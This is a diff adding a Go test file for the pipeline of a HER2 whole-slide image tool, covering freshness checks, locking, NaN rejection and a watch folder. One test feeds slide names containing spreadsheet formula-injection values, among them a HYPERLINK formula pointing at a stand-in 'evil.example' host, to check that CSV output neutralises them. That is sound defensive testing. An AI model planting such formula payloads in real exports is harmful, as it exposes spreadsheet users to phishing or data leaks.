@@ -1,0 +1,364 @@
+package pipeline
+
+import (
+	"context"
+	"encoding/csv"
+	"errors"
+	"math"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/her2wsi/her2wsi/features"
+	"github.com/her2wsi/her2wsi/features/featfile"
+	"github.com/her2wsi/her2wsi/internal/raster"
+	"github.com/her2wsi/her2wsi/slide"
+)
+
+// shiftedSlide writes a slide with colourSlide's grid (same tissue, same
+// patches) but other colours: a re-scan or another stain under one name.
+func shiftedSlide(t *testing.T, path string, rows, cols int) {
+	t.Helper()
+	img := raster.New(256*cols, 256*rows)
+	for y := 0; y < img.H; y++ {
+		for x := 0; x < img.W; x++ {
+			c := cellColour(y/256, x/256)
+			img.Set(x, y, c[0]-30, c[1]+10, c[2]-20)
+		}
+	}
+	if err := slide.WriteImage(path, img, 0.5, true); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func testRunner(t *testing.T, work Work, stages ...Stage) *Runner {
+	t.Helper()
+	return &Runner{Work: work, Stages: stages}
+}
+
+func runAll(t *testing.T, r *Runner, ins []Input, force bool) RunReport {
+	t.Helper()
+	rep, err := r.Run(context.Background(), ins, RunOptions{Force: force})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rep
+}
+
+// counts returns done/skipped/failed of a stage.
+func counts(t *testing.T, rep RunReport, stage string) (done, skipped, failed int) {
+	t.Helper()
+	s, ok := rep.Summary(stage)
+	if !ok {
+		t.Fatalf("no %s summary", stage)
+	}
+	for _, r := range s.Results {
+		if r.Err != nil {
+			t.Logf("%s %s: %v", stage, r.ID, r.Err)
+		}
+	}
+	return s.Done, s.Skipped, s.Failed
+}
+
+func TestRunnerFreshness(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "rescan.tif")
+	colourSlide(t, path, 5, 7)
+	work := Work{Dir: filepath.Join(dir, "work")}
+	enc := testEncoder(t, "tiny-clip.onnx")
+	aopt := DefaultAnchorOptions()
+	aopt.PPK = []int{9}
+	r := testRunner(t, work, NewTileStage(work, DefaultTileOptions(), 1), NewEmbedStage(work, enc, DefaultEmbedOptions()), NewAnchorStage(work, aopt, 1))
+	ins := []Input{{Path: path, ID: "rescan"}}
+
+	rep := runAll(t, r, ins, false)
+	for _, st := range []string{StageTile, StageEmbed, StageAnchors} {
+		if d, _, f := counts(t, rep, st); d != 1 || f != 0 {
+			t.Fatalf("first run: %s done %d failed %d", st, d, f)
+		}
+	}
+	feat1, _, _ := readFeatures(t, work.FeaturesH5("rescan", "tiny-clip"))
+	st, err := work.ReadState("rescan")
+	if err != nil || st.Stages[StageEmbed].Key == "" || len(st.Stages[StageEmbed].Outputs) != 1 {
+		t.Fatalf("state.json: %+v %v", st, err)
+	}
+
+	// Rerun: everything is fresh.
+	rep = runAll(t, r, ins, false)
+	for _, st := range []string{StageTile, StageEmbed, StageAnchors} {
+		if _, s, _ := counts(t, rep, st); s != 1 {
+			t.Fatalf("second run: %s not skipped", st)
+		}
+	}
+	if st2, _ := work.ReadState("rescan"); st2.Stages[StageEmbed].Key != st.Stages[StageEmbed].Key || len(st2.Stages[StageEmbed].Outputs) != 1 {
+		t.Fatal("a skip lost the stage's record")
+	}
+
+	// The same name, the same grid, other pixels, and even the old file's
+	// modification time: tile and embed are redone, anchors (same
+	// coordinates) are not.
+	fi, _ := os.Stat(path)
+	shiftedSlide(t, path, 5, 7)
+	if err := os.Chtimes(path, fi.ModTime(), fi.ModTime()); err != nil {
+		t.Fatal(err)
+	}
+	rep = runAll(t, r, ins, false)
+	if d, _, _ := counts(t, rep, StageTile); d != 1 {
+		t.Fatal("a re-scan under the same name was not tiled again")
+	}
+	if d, _, _ := counts(t, rep, StageEmbed); d != 1 {
+		t.Fatal("a re-scan under the same name was not embedded again")
+	}
+	if _, s, _ := counts(t, rep, StageAnchors); s != 1 {
+		t.Fatal("anchors of unchanged coordinates were redone")
+	}
+	feat2, _, _ := readFeatures(t, work.FeaturesH5("rescan", "tiny-clip"))
+	same := true
+	for i := range feat1 {
+		if feat1[i] != feat2[i] {
+			same = false
+			break
+		}
+	}
+	if same {
+		t.Fatal("the features of the re-scan equal the old slide's")
+	}
+
+	// An output rewritten behind the runner's back is redone.
+	later := time.Now().Add(time.Minute)
+	if err := os.Chtimes(work.AnchorsH5("rescan"), later, later); err != nil {
+		t.Fatal(err)
+	}
+	rep = runAll(t, r, ins, false)
+	if d, _, _ := counts(t, rep, StageAnchors); d != 1 {
+		t.Fatal("a changed anchors.h5 was not redone")
+	}
+	if _, s, _ := counts(t, rep, StageEmbed); s != 1 {
+		t.Fatal("embed redone without a reason")
+	}
+
+	// A lost state.json redoes the work rather than skipping it.
+	os.Remove(work.StateJSON("rescan"))
+	rep = runAll(t, r, ins, false)
+	if d, _, _ := counts(t, rep, StageEmbed); d != 1 {
+		t.Fatal("without state.json the embed stage was skipped")
+	}
+}
+
+func TestEmbedRefusesSlideChangedSinceTiling(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "moved.tif")
+	colourSlide(t, path, 3, 3)
+	work := Work{Dir: filepath.Join(dir, "work")}
+	ins := []Input{{Path: path, ID: "moved"}}
+	runAll(t, testRunner(t, work, NewTileStage(work, DefaultTileOptions(), 1)), ins, false)
+	shiftedSlide(t, path, 3, 3)
+	rep := runAll(t, testRunner(t, work, NewEmbedStage(work, testEncoder(t, "tiny-clip.onnx"), DefaultEmbedOptions())), ins, false)
+	s, _ := rep.Summary(StageEmbed)
+	if s.Failed != 1 || !strings.Contains(s.Results[0].Err.Error(), "changed since it was tiled") {
+		t.Fatalf("embed of a slide changed since tiling: %+v", s.Results)
+	}
+	if exists(work.FeaturesH5("moved", "tiny-clip")) {
+		t.Fatal("features written for a slide changed since tiling")
+	}
+}
+
+func TestRunnerLockedSlide(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "held.tif")
+	colourSlide(t, path, 3, 3)
+	work := Work{Dir: filepath.Join(dir, "work")}
+	os.MkdirAll(work.SlideDir("held"), 0o755)
+	l, err := AcquireLock(work, "held", LockOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Release()
+	rep := runAll(t, testRunner(t, work, NewTileStage(work, DefaultTileOptions(), 1)), []Input{{Path: path, ID: "held"}}, false)
+	if rep.Locked != 1 || rep.Slides != 0 || exists(work.SlideJSON("held")) {
+		t.Fatalf("a slide locked by a live process was processed: %+v", rep)
+	}
+}
+
+// predictEnv is a tiled, embedded, anchored slide and a model.
+func predictEnv(t *testing.T) (Work, Input, *LoadedModel) {
+	t.Helper()
+	dir := t.TempDir()
+	path := filepath.Join(dir, "nan.tif")
+	colourSlide(t, path, 5, 7)
+	work := Work{Dir: filepath.Join(dir, "work")}
+	m := watchModel(t)
+	aopt := DefaultAnchorOptions()
+	aopt.PPK = []int{m.Config.PPK}
+	in := Input{Path: path, ID: "nan"}
+	rep := runAll(t, testRunner(t, work, NewTileStage(work, DefaultTileOptions(), 1), NewEmbedStage(work, testEncoder(t, "tiny-clip.onnx"), DefaultEmbedOptions()), NewAnchorStage(work, aopt, 1)), []Input{in}, false)
+	if rep.Failed() > 0 {
+		t.Fatalf("preparing: %+v", rep.Summaries)
+	}
+	return work, in, m
+}
+
+func TestPredictNonFinite(t *testing.T) {
+	t.Run("features", func(t *testing.T) {
+		work, in, m := predictEnv(t)
+		p := work.FeaturesH5(in.ID, "tiny-clip")
+		feats, coords, dim := readFeatures(t, p)
+		info, _, _, err := featfile.ReadInfo(p)
+		if err != nil {
+			t.Fatal(err)
+		}
+		feats[3*dim+1] = float32(math.NaN())
+		if err := featfile.Write(p, feats, coords, dim, info); err != nil {
+			t.Fatal(err)
+		}
+		ps := NewPredictStage(work, "tiny-clip", m)
+		rep := runAll(t, testRunner(t, work, ps), []Input{in}, false)
+		s, _ := rep.Summary(StagePredict)
+		if s.Failed != 1 || !strings.Contains(s.Results[0].Err.Error(), "non-finite") {
+			t.Fatalf("NaN features: %+v", s.Results)
+		}
+		if exists(work.PredictionsCSV()) || len(ps.Rows()) != 0 {
+			t.Fatal("a NaN feature became a prediction")
+		}
+	})
+	t.Run("weights", func(t *testing.T) {
+		work, in, m := predictEnv(t)
+		for i := range m.Params.Values {
+			for j := range m.Params.Values[i] {
+				m.Params.Values[i][j] = float32(math.NaN())
+			}
+		}
+		m.Params.Touch()
+		rep := runAll(t, testRunner(t, work, NewPredictStage(work, "tiny-clip", m)), []Input{in}, false)
+		s, _ := rep.Summary(StagePredict)
+		if s.Failed != 1 || !strings.Contains(s.Results[0].Err.Error(), "not finite") {
+			t.Fatalf("NaN weights: %+v", s.Results)
+		}
+		if exists(work.PredictionsCSV()) || exists(work.ReportHTML(in.ID)) {
+			t.Fatal("NaN weights became a prediction or a report")
+		}
+	})
+}
+
+// TestEmbedRejectsNonFiniteOutput: an encoder that returns NaN fails the
+// slide, and writes no feature file.
+func TestEmbedRejectsNonFiniteOutput(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "nanenc.tif")
+	colourSlide(t, path, 3, 3)
+	work := Work{Dir: filepath.Join(dir, "work")}
+	ins := []Input{{Path: path, ID: "nanenc"}}
+	tileAll(t, work, ins)
+	enc := &nanEncoder{Encoder: testEncoder(t, "tiny-clip.onnx")}
+	rep := runAll(t, testRunner(t, work, NewEmbedStage(work, enc, DefaultEmbedOptions())), ins, false)
+	s, _ := rep.Summary(StageEmbed)
+	if s.Failed != 1 || !strings.Contains(s.Results[0].Err.Error(), "non-finite") || errors.Is(s.Results[0].Err, ErrEncoderRuntime) {
+		t.Fatalf("NaN encoder output: %+v", s.Results)
+	}
+	if exists(work.FeaturesH5("nanenc", "tiny-clip")) {
+		t.Fatal("a feature file with NaN was written")
+	}
+}
+
+func TestEmbedOptionsValidate(t *testing.T) {
+	for _, o := range []EmbedOptions{{Batch: 0, Readers: 1, InFlight: 1}, {Batch: 100000000, Readers: 1, InFlight: 1}, {Batch: 8, Readers: 0, InFlight: 1}, {Batch: 8, Readers: 1, InFlight: 1000}} {
+		if o.Validate() == nil {
+			t.Errorf("%+v accepted", o)
+		}
+	}
+	if err := DefaultEmbedOptions().Validate(); err != nil {
+		t.Error(err)
+	}
+}
+
+// TestWatchTakesLockAndRecordsState: the watch folder honours a slide lock
+// held by a batch run on the same work folder (the slide stays in the
+// inbox, neither failed nor done), then processes it once free and
+// records state.json like `run`.
+func TestWatchTakesLockAndRecordsState(t *testing.T) {
+	e := newWatchEnv(t)
+	makeSlide(t, filepath.Join(e.inbox, "shared.tif"))
+	os.MkdirAll(e.work.SlideDir("shared"), 0o755)
+	l, err := AcquireLock(e.work, "shared", LockOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	_ = e.runOnce(t, nil)
+	if !exists(filepath.Join(e.inbox, "shared.tif")) || exists(e.work.SlideJSON("shared")) {
+		t.Fatal("the watcher processed or moved a slide locked by another process")
+	}
+	l.Release()
+	if err := e.runOnce(t, nil); err != nil {
+		t.Fatal(err)
+	}
+	if !exists(filepath.Join(e.inbox, InboxDone, "shared.tif")) {
+		t.Fatal("not done once the lock was released")
+	}
+	st, err := e.work.ReadState("shared")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, s := range []string{StageTile, StageEmbed, StageAnchors, StagePredict} {
+		if st.Stages[s].Status != "done" {
+			t.Errorf("state.json %s: %+v", s, st.Stages[s])
+		}
+	}
+}
+
+// nanEncoder returns NaN for the first value of every batch.
+type nanEncoder struct{ features.Encoder }
+
+func (e *nanEncoder) Run(b *features.Batch) ([]float32, error) {
+	out, err := e.Encoder.Run(b)
+	if err == nil && len(out) > 0 {
+		out[0] = float32(math.NaN())
+	}
+	return out, err
+}
+
+// TestPredictionsCSVNeutralisesFormulas: slide names a spreadsheet would
+// run as formulas are written as text, read back by a CSV reader as the
+// name with a leading quote, and replaced (not duplicated) on a rerun.
+func TestPredictionsCSVNeutralisesFormulas(t *testing.T) {
+	work := Work{Dir: t.TempDir()}
+	ids := []string{`=HYPERLINK("http://evil.example/?x","click")`, "+1+2", "-2+3", "@SUM(A1)", "\tx", "plain,comma", "ok"}
+	row := func(id string) PredictRow {
+		return PredictRow{SlideID: id, Probs: []float64{0.1, 0.2, 0.3, 0.4}, Predicted: 3, ModelID: "m", Time: time.Unix(0, 0)}
+	}
+	for round := 0; round < 2; round++ {
+		var rows []PredictRow
+		for _, id := range ids {
+			rows = append(rows, row(id))
+		}
+		if err := WritePredictions(work, rows); err != nil {
+			t.Fatal(err)
+		}
+	}
+	f, err := os.Open(work.PredictionsCSV())
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	recs, err := csv.NewReader(f).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(recs) != 1+len(ids) {
+		t.Fatalf("%d rows, want %d (no duplicates on a rerun)", len(recs)-1, len(ids))
+	}
+	for i, id := range ids {
+		got := recs[i+1][0]
+		want := id
+		if strings.ContainsRune("=+-@\t\r", rune(id[0])) {
+			want = "'" + id
+		}
+		if got != want {
+			t.Errorf("cell %q, want %q", got, want)
+		}
+		if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) {
+			t.Errorf("cell %q starts a formula", got)
+		}
+	}
+}
